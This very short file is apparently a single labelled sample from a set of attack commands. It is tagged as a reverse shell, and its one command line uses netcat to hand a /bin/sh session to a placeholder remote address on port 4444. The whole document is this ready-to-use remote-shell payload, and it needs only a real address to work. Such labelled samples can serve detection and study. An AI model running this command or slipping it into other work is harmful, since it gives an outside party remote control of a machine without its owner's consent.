# description: Connects back with nc and hands the connection /bin/sh.
# family: reverse-shell
nc -e /bin/sh 203.0.113.10 4444
